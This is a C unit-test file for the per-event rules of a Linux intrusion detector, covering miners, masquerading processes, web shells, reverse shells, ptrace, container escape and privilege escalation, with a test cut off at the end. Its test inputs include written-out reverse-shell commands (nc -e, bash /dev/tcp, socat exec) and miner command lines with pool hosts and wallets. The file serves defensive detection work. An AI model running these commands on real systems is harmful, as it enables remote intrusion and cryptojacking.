/* SPDX-License-Identifier: MIT */
/* The per-event detectors on hand-made events, near misses included. */
#include "config.h"

#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <time.h>
#include <limits.h>
#include <unistd.h>
#include <sys/wait.h>

#include <cmocka.h>

#include "detect.h"
#include "lineage.h"
#include "rules/rules.h"

static struct sw_rules rules;
static struct sw_host host;
static struct sw_detect *det;
static struct sw_event ev;

/* An event through the table and the detectors, as the pipeline runs it. */
static void apply(struct sw_lineage *l, struct sw_event *e)
{
	sw_detect_before(det, l, e);
	sw_lineage_apply(l, e);
	sw_detect_event(det, l, e);
}

/* An exec of exe with argv given as "a\0b\0" and its length. */
static void exec_(const char *exe, const char *cwd, const char *argv, size_t n)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.pid = ev.tid = 100;
	ev.exe = exe;
	ev.cwd = cwd;
	ev.argv = argv;
	ev.argv_len = n;
	ev.have = (exe ? SW_HAVE_EXE : 0) | (argv ? SW_HAVE_ARGV : 0) |
		  (cwd ? SW_HAVE_CWD : 0);
	sw_detect_event(det, NULL, &ev);
}

#define EXEC(exe, cwd, argv) exec_(exe, cwd, argv, sizeof(argv))

static bool tagged(const char *tag)
{
	for (unsigned i = 0; i < ev.n_tags; i++)
		if (strcmp(ev.tags[i], tag) == 0)
			return true;
	return false;
}

static int setup(void **state)
{
	sw_rules_defaults(&rules);
	host = (struct sw_host){ 0 };
	sw_detect_free(det);
	det = sw_detect_new(&rules, &host);
	assert_non_null(det);
	return 0;
}

static void test_tmp(void **state)
{
	EXEC("/tmp/x", "/", "/tmp/x");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/var/tmp/a/b", "/", "b");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/dev/shm/k", "/", "k");
	assert_true(tagged("exec-from-tmp"));
	/* Near misses: a prefix that is not the directory, the system. */
	EXEC("/tmpfs/x", "/", "x");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/sleep", "/tmp", "sleep\0" "1");
	assert_int_equal(ev.n_tags, 0);
	/* Scripts: the interpreter's operand, resolved against cwd. */
	EXEC("/usr/bin/dash", "/tmp", "sh\0" "./x.sh");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/bash", "/home/u", "bash\0" "-x\0" "/tmp/../tmp/y.sh");
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/bash", "/tmp", "bash\0" "../etc/x.sh");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/dash", "/tmp", "sh\0" "-c\0" "/tmp/x");	/* a command */
	assert_int_equal(ev.n_tags, 0);
	/* Options clustered with c: still a command, never a script in cwd. */
	EXEC("/usr/bin/bash", "/tmp", "bash\0" "-ec\0" "make");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/bash", "/tmp", "bash\0" "-ic\0" "ls");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/dash", "/tmp", "sh\0" "-xec\0" "true");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/bash", "/tmp", "bash\0" "-x\0" "./y.sh");	/* no c: a script */
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/python3.11", "/tmp", "python3\0" "x.py");	/* not listed */
	assert_int_equal(ev.n_tags, 0);
	/* The dynamic loader runs its operand. */
	EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/",
	     "ld.so\0" "/dev/shm/payload");
	assert_true(tagged("exec-from-tmp"));
	rules.exec.tmp_enabled = false;
	EXEC("/tmp/x", "/", "/tmp/x");
	assert_int_equal(ev.n_tags, 0);
}

static void test_hidden_deleted_memfd(void **state)
{
	EXEC("/home/u/.cache/.update", "/", ".update");
	assert_true(tagged("hidden-exe"));
	assert_false(tagged("exec-from-tmp"));
	/* A dot directory on the path, as miners hide in /tmp/.X25-unix. */
	EXEC("/home/u/.cache/update", "/", "update");
	assert_true(tagged("hidden-exe"));
	EXEC("/tmp/.X25-unix/.rsync/kswapd0", "/", "kswapd0");
	assert_true(tagged("hidden-exe"));
	assert_true(tagged("exec-from-tmp"));
	EXEC("/usr/bin/dash", "/tmp/.ICE-unix", "sh\0" "./run");	/* a script there */
	assert_true(tagged("hidden-exe"));
	/* Where tools install themselves, and . and .. */
	EXEC("/root/.pyenv/versions/3.11.7/bin/python3.11", "/", "python3");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/home/u/.local/bin/black", "/", "black");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/dash", "/src/x", "sh\0" ".git/hooks/pre-commit");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/./bin/../bin/ls", "/", "ls");
	assert_int_equal(ev.n_tags, 0);
	rules.exec.hidden_allow.n = 0;	/* an empty allow_dirs */
	EXEC("/home/u/.local/bin/black", "/", "black");
	assert_true(tagged("hidden-exe"));
	EXEC("/usr/bin/python3 (deleted)", "/", "python3");
	assert_true(tagged("deleted-exe"));
	EXEC("/tmp/.x (deleted)", "/", "x");
	assert_true(tagged("deleted-exe"));
	assert_true(tagged("exec-from-tmp"));
	assert_true(tagged("hidden-exe"));
	EXEC("/memfd:payload (deleted)", "/", "x");
	assert_true(tagged("memfd-exec"));
	assert_false(tagged("deleted-exe"));
	EXEC("/usr/bin/memfd:x", "/", "x");
	assert_int_equal(ev.n_tags, 0);
}

static void test_miner(void **state)
{
	EXEC("/opt/x/xmrig", "/", "xmrig");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/java", "/", "java\0" "-jar\0" "m.jar\0" "-o\0"
	     "stratum+ssl://pool:443");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/curl", "/", "curl\0" "https://stratum.example/");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/opt/xmrig-docs/README", "/", "less");	/* only the name counts */
	assert_int_equal(ev.n_tags, 0);
	/* Names in any case, as miners ship them. */
	EXEC("/opt/l/lolMiner", "/", "lolMiner");
	assert_true(tagged("miner"));
	EXEC("/opt/t/T-Rex", "/", "t-rex");
	assert_true(tagged("miner"));
	EXEC("/opt/s/SRBMiner-MULTI", "/", "SRBMiner-MULTI");
	assert_true(tagged("miner"));
	/* Pool URLs of every scheme, in an option or glued to it. */
	EXEC("/usr/bin/kworker", "/", "kworker\0" "-o\0" "stratum2+tcp://p.example:3333");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "--pool=ethproxy+tcp://eth.example:8008");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "-P\0" "nicehash+tcp://a.b:3353");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "-ostratum+tls://a.b:443");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "ethstratum+ssl://a.b:443");
	assert_true(tagged("miner"));
	/* Options together: a pool and a wallet, or a mining algorithm. */
	EXEC("/var/tmp/.x/kswapd0", "/", "kswapd0\0" "-o\0" "pool.supportxmr.com:443\0" "-u\0"
	     "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\0" "-k");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "--url=rvn.example.org:4444\0" "--user=RJBj4FhWo4vVW1aVdK3QvVwNc5mCfAaM8y.rig1");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "-o\0" "eth.example.org:4444\0" "-u\0" "0x1234567890abcdef1234567890ABCDEF12345678.w");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "-a\0" "rx/0\0" "-o\0" "a.b:3333\0" "-u\0" "x");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "--algo=kawpow\0" "--server\0" "a.b:3333");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "--donate-level\0" "1");
	assert_true(tagged("miner"));
	EXEC("/usr/bin/x", "/", "x\0" "--donate-level=0");
	assert_true(tagged("miner"));
	/* Near misses: each part alone, ordinary tools. */
	EXEC("/usr/bin/ssh", "/", "ssh\0" "-o\0" "ProxyCommand=nc h:22\0" "-u\0" "root");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/curl", "/", "curl\0" "-o\0" "out.example.com:80\0" "-u\0" "alice:secret");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/x", "/", "x\0" "-o\0" "a.b:3333");	/* a pool, no user */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/tar", "/", "tar\0" "-a\0" "-cf\0" "x.tar.gz\0" "-o\0" "a.b:1");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/git", "/", "git\0" "clone\0" "git+ssh://h/x\0" "svn+tcp://h/x");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/x", "/", "x\0" "+tcp://a.b:1\0" "-o");	/* cut, empty */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/x", "/", "x\0" "-u");
	assert_int_equal(ev.n_tags, 0);
	/* No exe and no argv: nothing to judge, nothing tagged. */
	exec_(NULL, NULL, NULL, 0);
	assert_int_equal(ev.n_tags, 0);
}

/* The options miners take beyond a stratum URL (tests/data/miners). */
static void test_miner_options(void **state)
{
	/* lolMiner's -p HOST:PORT, with a wallet or a coin. */
	EXEC("/opt/x/kworker", "/", "kworker\0" "-a\0" "ETCHASH\0" "-p\0" "etc.2miners.com:1010");
	assert_true(tagged("miner"));
	EXEC("/opt/x/r", "/", "r\0" "-c\0" "ETC\0" "-p\0" "etc.2miners.com:1010\0" "-u\0"
	     "0x0924EF9ecBcC1287047cAFd2EAD3A133313eE6A2");
	assert_true(tagged("miner"));
	/* GMiner's --server HOST --port N with an algorithm. */
	EXEC("/opt/x/miner", "/", "miner\0" "--algo\0" "144_5\0" "--server\0" "eu.btgpool.pro\0"
	     "--port\0" "1445");
	assert_true(tagged("miner"));
	/* A pool login: -o HOST:PORT -u NAME -p PASS. */
	EXEC("/opt/x/sshd", "/", "sshd\0" "-o\0" "pool.example.com:3333\0" "-u\0" "YOUR_WALLET\0" "-p\0" "x");
	assert_true(tagged("miner"));
	/* PhoenixMiner's single-dash options. */
	EXEC("/opt/x/p", "/", "p\0" "-pool\0" "eu1.ethermine.org:4444\0" "-wal\0"
	     "0x0924EF9ecBcC1287047cAFd2EAD3A133313eE6A2");
	assert_true(tagged("miner"));
	/* A node's http://HOST:PORT/ with an algorithm (ccminer solo). */
	EXEC("/opt/x/h", "/", "h\0" "-a\0" "fugue256\0" "-o\0" "http://localhost:9089/");
	assert_true(tagged("miner"));
	EXEC("/opt/x/g", "/", "g\0" "-a\0" "ethash\0" "-o\0" "stratum+http://127.0.0.1:8080");
	assert_true(tagged("miner"));
	/* Near misses: the same letters in ordinary tools. */
	EXEC("/usr/bin/ssh", "/", "ssh\0" "-o\0" "BatchMode=yes\0" "-p\0" "2222\0" "-l\0" "u\0" "h.example.com");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/curl", "/", "curl\0" "-o\0" "out\0" "-u\0" "user:pass\0" "https://a.example:8443/");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/curl", "/", "curl\0" "-o\0" "http://a.example:80/\0" "-u\0" "u:p");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/mysql", "/", "mysql\0" "-h\0" "db.example.com\0" "-P\0" "3306\0" "-u\0" "root\0" "-psecret");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/gcc", "/", "gcc\0" "-o\0" "a\0" "a.c");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/make", "/", "make\0" "-j\0" "4\0" "-C\0" "src");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/tar", "/", "tar\0" "-c\0" "config.json\0" "-f\0" "x.tar");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/sort", "/", "sort\0" "-o\0" "s.txt\0" "a.txt");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/sbin/nginx", "/", "nginx\0" "-c\0" "/etc/nginx/nginx.conf\0" "-p\0" "/srv");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/x", "/", "x\0" "-s\0" "a.example.com\0" "--port\0" "8080");	/* no algorithm */
	assert_int_equal(ev.n_tags, 0);
	/* A config file of a replayed line is never read. */
	EXEC("/tmp/.x/kswapd0", "/tmp/.x", "./kswapd0\0" "-c\0" "config.json");
	assert_false(tagged("miner"));
}

/* A rename (comm) of process pid, child of ppid, with exe or none. */
static void rename_(int pid, int tid, int ppid, const char *exe, const char *comm)
{
	sw_event_reset(&ev, SW_EV_COMM);
	ev.pid = pid;
	ev.tid = tid;
	ev.ppid = ppid;
	ev.exe = exe;
	ev.have = SW_HAVE_PPID | (exe ? SW_HAVE_EXE : 0);
	snprintf(ev.u.comm.comm, sizeof(ev.u.comm.comm), "%s", comm);
	sw_detect_event(det, NULL, &ev);
}

static void test_masquerade(void **state)
{
	/* Named like a kernel thread: exec -a, a copy's name, a bare name. */
	EXEC("/usr/bin/sleep", "/", "[kworker/0:1]\0" "30");
	assert_true(tagged("masquerade"));
	EXEC("/tmp/.X25-unix/.rsync/kswapd0", "/", "./kswapd0");
	assert_true(tagged("masquerade"));
	assert_true(tagged("hidden-exe"));
	EXEC("/dev/shm/x", "/", "kworker/u8:2");
	assert_true(tagged("masquerade"));
	EXEC("/var/tmp/kdevtmpfsi", "/", "kdevtmpfsi");
	assert_true(tagged("masquerade"));
	assert_true(tagged("miner"));
	EXEC("/opt/m/run", "/", "ksoftirqd/3");
	assert_true(tagged("masquerade"));
	EXEC("/opt/m/run", "/", "[anything]");	/* how ps shows a kernel thread */
	assert_true(tagged("masquerade"));
	/* Names that are not a kernel thread's. */
	EXEC("/usr/lib/qemu/vhost-user-gpu", "/", "vhost-user-gpu");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/sbin/irqbalance", "/", "irqbalance");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/[", "/", "[\0" "-f\0" "x\0" "]");
	assert_int_equal(ev.n_tags, 0);
	/* argv[0] a daemon's name, with nothing to look at (a replayed log). */
	EXEC("/dev/shm/.s/x", "/", "sshd\0" "-D");
	assert_true(tagged("masquerade"));
	EXEC("/dev/shm/.s/x", "/", "/usr/sbin/cron");
	assert_true(tagged("masquerade"));
	/* Near misses: login shells, multi-call binaries, versions, re-execs. */
	EXEC("/usr/bin/bash", "/", "-bash");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/busybox", "/", "sshd");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/python3.11", "/", "python3\0" "-V");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/lib/git-core/git", "/", "git-upload-pack");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/sshd-session", "/", "sshd");	/* OpenSSH 9.8's */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/opt/google/chrome/chrome", "/", "/proc/self/exe\0" "--type=zygote");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/opt/x/x", "/", "mytool");	/* a new name hides nothing */
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/x", "/", "");
	assert_int_equal(ev.n_tags, 0);
	/* Allow-listed, or switched off. */
	rules.masq.allow.v[0] = "/dev/shm/.s/x";
	rules.masq.allow.n = 1;
	EXEC("/dev/shm/.s/x", "/", "sshd");
	assert_false(tagged("masquerade"));
	rules.masq.allow.n = 0;
	rules.masq.enabled = false;
	EXEC("/usr/bin/sleep", "/", "[kworker/0:1]");
	assert_int_equal(ev.n_tags, 0);
	rules.masq.enabled = true;
	/* A rename: a process's, never a kernel thread's nor a thread's. */
	rename_(300, 300, 1, "/tmp/x", "kworker/0:2");
	assert_true(tagged("masquerade"));
	rename_(300, 300, 1, NULL, "[kswapd0]");	/* exe unreadable: not kthreadd's */
	assert_true(tagged("masquerade"));
	rename_(40, 40, 2, NULL, "kworker/0:2");
	assert_int_equal(ev.n_tags, 0);
	rename_(300, 301, 1, "/tmp/x", "kworker/0:2");
	assert_int_equal(ev.n_tags, 0);
	rename_(300, 300, 1, "/usr/bin/python3.11", "worker-0");
	assert_int_equal(ev.n_tags, 0);
}

/*
 * A real child run as execv(exe, av), judged as its exec.  The child must
 * outlive the look at its /proc/PID/exe: it is killed once judged.
 */
static void exec_argv(const char *exe, char *const av[], const char *cwd)
{
	char link[256], argv[256], path[64];
	int pid = fork();
	ssize_t n;
	size_t m = 0;

	assert_true(pid >= 0);
	if (pid == 0) {
		execv(exe, av);
		_exit(127);
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	for (int i = 0; i < 400; i++) {	/* until the exec is done */
		n = readlink(path, link, sizeof(link) - 1);
		if (n > 0 && (link[n] = '\0', strcmp(sw_rule_base(link), "test-rules")))
			break;
		usleep(5000);
	}
	assert_string_not_equal(sw_rule_base(link), "test-rules");
	for (unsigned i = 0; av[i]; i++) {
		size_t l = strlen(av[i]) + 1;

		assert_true(m + l <= sizeof(argv));
		memcpy(argv + m, av[i], l);
		m += l;
	}
	exec_(link, cwd, argv, m);
	ev.pid = pid;
	ev.enriched = true;		/* a live exec: its files are there */
	ev.n_tags = 0;
	sw_detect_event(det, NULL, &ev);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

/* execv(exe, {a0, "30"}): sleep 30 under another name. */
static void exec_as(const char *exe, const char *a0, const char *cwd)
{
	char *av[] = { (char *)a0, (char *)"30", NULL };

	exec_argv(exe, av, cwd);
}

static void test_masquerade_files(void **state)
{
	char sh[PATH_MAX];

	/* Another installed program's name: ls, cat for sleep. */
	exec_as("/usr/bin/sleep", "ls", "/");
	assert_true(tagged("masquerade"));
	exec_as("/usr/bin/sleep", "/usr/bin/cat", "/");
	assert_true(tagged("masquerade"));
	/* The same program by a path or a symlink to it. */
	exec_as("/usr/bin/sleep", "/bin/sleep", "/");
	assert_int_equal(ev.n_tags, 0);
	exec_as("/usr/bin/sleep", "../usr/bin/sleep", "/etc");
	assert_int_equal(ev.n_tags, 0);
	/* sh for the shell it links to (dash, bash). */
	if (realpath("/usr/bin/sh", sh) && strcmp(sw_rule_base(sh), "sh") != 0) {
		/* A shell that stays until it is judged: a loop, not a script. */
		char *av[] = { (char *)"sh", (char *)"-c", (char *)"while :; do :; done", NULL };

		exec_argv(sh, av, "/");
		assert_int_equal(ev.n_tags, 0);
	}
	/* An arbitrary name: installed nowhere, no daemon's. */
	exec_as("/usr/bin/sleep", "zzmytool", "/");
	assert_int_equal(ev.n_tags, 0);
}

/* An exec whose parent is the given program (comm, exe). */
static void child_of(const char *pcomm, const char *pexe, const char *exe,
		     const char *argv, size_t n)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.exe = exe;
	ev.argv = argv;
	ev.argv_len = n;
	ev.have = SW_HAVE_EXE | SW_HAVE_ARGV;
	ev.ancestry[0].pid = 1;
	ev.ancestry[0].comm = pcomm;
	ev.ancestry[0].exe = pexe;
	ev.n_ancestry = 1;
	sw_detect_event(det, NULL, &ev);
}

#define CHILD(pc, pe, exe, argv) child_of(pc, pe, exe, argv, sizeof(argv))

static void test_net(void **state)
{
	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/dash", "sh\0-c\0id");
	assert_true(tagged("web-shell"));
	CHILD("php-fpm8.2", "/usr/sbin/php-fpm8.2", "/usr/bin/id", "id");
	assert_true(tagged("web-shell"));
	CHILD("java", "/usr/lib/jvm/bin/java", "/usr/bin/cat", "cat\0/etc/passwd");
	assert_true(tagged("web-shell"));
	/* Near misses: nginx starting its worker, cat of a page, bash's child. */
	CHILD("nginx", "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx\0-g\0x");
	assert_int_equal(ev.n_tags, 0);
	CHILD("nginx", "/usr/sbin/nginx", "/usr/bin/cat", "cat\0/var/www/index.html");
	assert_int_equal(ev.n_tags, 0);
	CHILD("bash", "/usr/bin/bash", "/usr/bin/id", "id");
	assert_int_equal(ev.n_tags, 0);
	CHILD("nginxtool", "/opt/nginxtool", "/usr/bin/id", "id");
	assert_int_equal(ev.n_tags, 0);

	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-e\0/bin/sh\0" "10.0.0.1\0" "4444");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/ncat", "/", "ncat\0--sh-exec\0sh\0h\0" "1");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/socat", "/", "socat\0tcp:h:1\0exec:/bin/sh");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/bash", "/", "bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
	assert_true(tagged("reverse-shell"));
	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-zv\0host\0" "22");
	assert_int_equal(ev.n_tags, 0);
	EXEC("/usr/bin/cat", "/", "cat\0/dev/tcp/x");	/* not a shell */
	assert_int_equal(ev.n_tags, 0);

	EXEC("/usr/bin/nc.openbsd", "/", "nc\0-lvnp\0" "4444");
	assert_true(tagged("network-listener"));
	assert_false(tagged("reverse-shell"));
	EXEC("/usr/bin/socat", "/", "socat\0TCP-LISTEN:4444\0STDOUT");
	assert_true(tagged("network-listener"));
	EXEC("/usr/bin/socat", "/", "socat\0-\0TCP:h:80");
	assert_int_equal(ev.n_tags, 0);
}

static bool ptrace_tagged(const char *comm, const char *exe, uint64_t mntns)
{
	sw_event_reset(&ev, SW_EV_PTRACE);
	ev.u.ptrace.tracer_pid = 7;
	ev.u.ptrace.tracer_comm = comm;
	ev.u.ptrace.tracer_exe = exe;
	ev.u.ptrace.tracer_mntns = mntns;
	sw_detect_event(det, NULL, &ev);
	return tagged("ptrace-attach");
}

/* The tracer is known by its executable's path, never by its name. */
static void test_ptrace(void **state)
{
	static const char *const debuggers[] = {
		"/usr/bin/gdb", "/usr/bin/strace", "/bin/strace", "/usr/bin/perf",
		"/usr/bin/ltrace", "/usr/bin/gdb (deleted)",
		"/usr/lib/llvm-16/bin/lldb", "/lib/llvm-16/bin/lldb-server",
	};
	static const char *const others[] = {
		"/tmp/x/gdb", "/home/u/strace", "/usr/local/bin/gdb", "gdb",
		"strace", "", "/usr/bin/gdb2", "/usr/bin/gd", "/usr/bin/gdb/",
		"/usr/usr/bin/gdb", "/bin/usr/bin/gdb", "/usr/sbin/gdb",
		"/usr/bin/gdb (deleted) (deleted)", " (deleted)",
		"/usr/bin/injector", "/memfd:gdb (deleted)",
	};

	for (size_t i = 0; i < sizeof(debuggers) / sizeof(*debuggers); i++)
		assert_false(ptrace_tagged("x", debuggers[i], 0));
	for (size_t i = 0; i < sizeof(others) / sizeof(*others); i++) {
		if (!ptrace_tagged("gdb", others[i], 0))
			print_message("tracer exe %s\n", others[i]);
		assert_true(ptrace_tagged("gdb", others[i], 0));
	}
	/* A renamed tracer, or one that vanished before it could be read. */
	assert_true(ptrace_tagged("gdb", NULL, 0));
	assert_true(ptrace_tagged(NULL, NULL, 0));
	/* Another mount namespace's /usr/bin/gdb may be any file. */
	host.mntns = 4026531841ull;
	assert_false(ptrace_tagged("gdb", "/usr/bin/gdb", host.mntns));
	assert_true(ptrace_tagged("gdb", "/usr/bin/gdb", 4026532999ull));
	assert_false(ptrace_tagged("gdb", "/usr/bin/gdb", 0));	/* unknown */
	host.mntns = 0;
	assert_false(ptrace_tagged("gdb", "/usr/bin/gdb", 4026532999ull));
	/* The rules file's list: /bin and /usr/bin are one directory. */
	rules.ptrace.allow.n = 0;
	SW_NAMES_FILL(&rules.ptrace.allow, ((const char *const[]){ "/bin/gdb" }));
	assert_false(ptrace_tagged("gdb", "/usr/bin/gdb", 0));
	assert_false(ptrace_tagged("gdb", "/bin/gdb", 0));
	assert_true(ptrace_tagged("gdb", "/usr/bin/strace", 0));
	/* A bare name in the list (only a path reads from a file) is nothing. */
	rules.ptrace.allow.n = 0;
	SW_NAMES_FILL(&rules.ptrace.allow, ((const char *const[]){ "gdb" }));
	assert_true(ptrace_tagged("gdb", "/usr/bin/gdb", 0));
	assert_true(ptrace_tagged("gdb", "gdb", 0));
	sw_event_reset(&ev, SW_EV_PTRACE);	/* a detach is not an attach */
	ev.u.ptrace.tracer_comm = "injector";
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
}

/* An exec now in mnt namespace now, before in prev, parent in parent. */
static void ns_exec(uint64_t now, uint64_t prev, uint64_t parent)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.have = SW_HAVE_NS;
	ev.mntns = now;
	ev.pidns = host.pidns;
	if (prev) {
		ev.u.exec.prev_mntns = prev;
		ev.u.exec.prev_pidns = host.pidns;
		ev.u.exec.have_prev_ns = true;
	}
	if (parent) {
		ev.parent_mntns = parent;
		ev.parent_pidns = host.pidns;
		ev.have |= SW_HAVE_PARENT_NS;
	}
	sw_detect_event(det, NULL, &ev);
}

static void test_escape(void **state)
{
	uint64_t hostns = 4026531841ull, box = 4026532999ull;

	host.mntns = hostns;
	host.pidns = 4026531836ull;
	ns_exec(hostns, box, box);	/* nsenter into the host */
	assert_true(tagged("container-escape"));
	ns_exec(hostns, box, 0);
	assert_true(tagged("container-escape"));
	ns_exec(hostns, 0, box);
	assert_true(tagged("container-escape"));
	ns_exec(hostns, hostns, hostns);	/* a hostns process */
	assert_int_equal(ev.n_tags, 0);
	ns_exec(box, hostns, hostns);	/* entering a container */
	assert_int_equal(ev.n_tags, 0);
	ns_exec(hostns, 0, 0);		/* nothing known before */
	assert_int_equal(ev.n_tags, 0);
	host.mntns = 0;		/* own namespace unreadable */
	ns_exec(0, box, box);
	assert_int_equal(ev.n_tags, 0);
}

static void uid_event(uint32_t prev_e, uint32_t e, const char *exe_now,
		      const char *exe_table)
{
	sw_detect_free(det);
	det = sw_detect_new(&rules, &host);
	sw_event_reset(&ev, SW_EV_UID);
	ev.pid = ev.tid = 5;
	ev.u.id.r = ev.u.id.prev_r = 1000;
	ev.u.id.e = e;
	ev.u.id.prev_e = prev_e;
	ev.u.id.have_prev = true;
	ev.u.id.exe = exe_now;
	ev.exe = exe_table;
	ev.have = SW_HAVE_EXE;
	sw_detect_event(det, NULL, &ev);
}

/* A uid event without a table: what the enrich stage read at it. */
static void uid_privs(uint32_t r, uint32_t saved, uint64_t eff, bool file)
{
	sw_detect_free(det);
	det = sw_detect_new(&rules, &host);
	sw_event_reset(&ev, SW_EV_UID);
	ev.pid = ev.tid = 5;
	ev.u.id.prev_r = ev.u.id.prev_e = 1000;
	ev.u.id.r = r;
	ev.u.id.have_prev = ev.u.id.have_privs = true;
	ev.u.id.saved = saved;
	ev.u.id.cap_eff = eff;
	ev.u.id.cap_bnd = 0x1ffffffffffull;
	ev.u.id.file_setuid = file;
	ev.u.id.exe = ev.exe = "/usr/bin/python3.13";
	ev.have = SW_HAVE_EXE;
	sw_detect_event(det, NULL, &ev);
}

static void test_priv(void **state)
{
	/* Outside an exec (the same program): tagged on the uid line. */
	uid_event(1000, 0, "/tmp/suid-id", "/tmp/suid-id");
	assert_true(tagged("privilege-escalation"));
	/* The program running at the gain counts, not the table's old one. */
	uid_event(1000, 0, "/usr/bin/sudo", "/usr/bin/bash");
	assert_int_equal(ev.n_tags, 0);
	uid_event(1000, 0, NULL, "/usr/bin/su");	/* gone: the table's */
	assert_int_equal(ev.n_tags, 0);
	uid_event(1000, 0, "/bin/su", "/usr/bin/bash");	/* merged /usr */
	assert_int_equal(ev.n_tags, 0);
	/* A setuid copy planted under a helper's name is no helper. */
	uid_event(1000, 0, "/tmp/.x/sudo", "/tmp/.x/sudo");
	assert_true(tagged("privilege-escalation"));
	uid_event(0, 0, "/x", "/x");			/* root already */
	assert_int_equal(ev.n_tags, 0);
	uid_event(0, 1000, "/x", "/x");			/* dropping root */
	assert_int_equal(ev.n_tags, 0);
	/* An exec with root's effective uid under a user's real uid. */
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.exe = "/opt/x";
	ev.uid = 1000;
	ev.euid = 0;
	ev.have = SW_HAVE_EXE | SW_HAVE_CREDS;
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("privilege-escalation"));
	ev.n_tags = 0;
	ev.uid = 0;
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
	/* What /proc said at a gain outside an exec. */
	uid_privs(0, 0, 0x80, true);		/* file capabilities */
	assert_true(tagged("privilege-escalation"));
	uid_privs(0, 0, 0x80, false);		/* CAP_SETUID, not root's set */
	assert_true(tagged("privilege-escalation"));
	uid_privs(1000, 1000, 0x1ffffffffffull, false);	/* no saved 0 */
	assert_true(tagged("privilege-escalation"));
	uid_privs(0, 0, 0x1ffffffffffull, false);	/* all to 0, never had it */
	assert_true(tagged("privilege-escalation"));
	uid_privs(1000, 0, 0x1ffffffffffull, false);	/* back to its saved 0 */
	assert_int_equal(ev.n_tags, 0);
	rules.priv.enabled = false;
	uid_privs(0, 0, 0x80, true);
	assert_int_equal(ev.n_tags, 0);
}

static void test_exit(void **state)
{
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGKILL;
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("killed"));
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGTERM;
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.u.exit.signal = SIGSEGV;
	ev.u.exit.core = true;
